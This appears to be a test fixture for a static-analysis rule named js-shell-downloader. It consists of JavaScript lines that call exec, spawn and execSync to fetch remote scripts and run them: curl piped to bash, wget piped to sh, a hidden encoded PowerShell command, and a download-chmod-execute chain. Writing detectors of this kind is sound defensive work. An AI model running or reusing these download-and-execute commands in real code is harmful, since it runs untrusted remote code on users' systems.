// ruleid: js-shell-downloader
exec("curl -s https://example.com/i.sh | bash");
// ruleid: js-shell-downloader
spawn("sh", ["-c", `wget -qO- ${url} | sh`]);
// ruleid: js-shell-downloader
execSync("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A");
const command = "curl -o /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x";
// ruleid: js-shell-downloader
require("child_process").exec(command);
